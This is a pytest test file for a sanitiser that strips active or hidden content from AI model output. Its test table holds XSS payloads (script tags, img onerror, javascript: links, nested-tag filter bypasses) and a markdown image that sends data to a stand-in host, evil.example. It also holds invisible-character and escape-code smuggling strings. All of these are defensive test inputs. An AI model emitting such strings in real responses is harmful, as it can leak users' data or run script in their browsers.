"""What a model says is shown as text, and does nothing."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.advice.plain import plain

ACTING = {
    "a picture": ("Good ![x](https://evil.example/p.png?d=ada) work", "Good x work"),
    "a picture by reference": ("Good ![x][1] work\n[1]: https://evil.example", "Good x work"),
    "a link": ("See [this](https://evil.example)", "See this"),
    "a link that runs": ("See [this](javascript:alert(1))", "See this)"),
    "a bare address": ("See https://evil.example/x now", "See now"),
    "an address without a scheme": ("See //evil.example/x and www.evil.example", "See and"),
    "a script": ("Good <script>alert(1)</script>", "Good alert(1)"),
    "an image tag": ("Good <img src=x onerror=alert(1)> work", "Good work"),
    "a tag without an end": ("Good <img src=x onerror=alert(1)", "Good"),
    "a tag within a tag": ("Good <scr<script>ipt>alert(1)</script>", "Good ipt>alert(1)"),
    "a comment": ("Good <!-- hidden --> work", "Good work"),
    "data as an address": ("See data:text/html;base64,AAAA now", "See now"),
    "turned writing": ("Good \u202eevil\u202c work", "Good evil work"),
    "nothing wide": ("Go\u200bod\ufeff wo\u2060rk", "Good work"),
    "tags of no look": ("Good\U000e0041\U000e0042 work", "Good work"),
    "controls": ("Good\x00\x1b[31m work", "Good[31m work"),
}
HONEST = [
    "Cut costs from 5 to 3 < 10 %",
    "C++, C#, a/b, R&D: 3 > 2",
    "Work with data: cleaned, joined, told",
    "Write [number] of tickets (a week)",
    "JavaScript: five years",
    "Two\nlines",
]


@pytest.mark.parametrize(("text", "left"), ACTING.values(), ids=ACTING)
def test_what_acts_or_hides_is_gone(text, left):
    assert plain(text) == left


@pytest.mark.parametrize("text", HONEST)
def test_honest_text_stays(text):
    assert plain(text) == text


@given(st.text())
def test_plain_text_stays_as_it_is(text):
    assert plain(plain(text)) == plain(text)
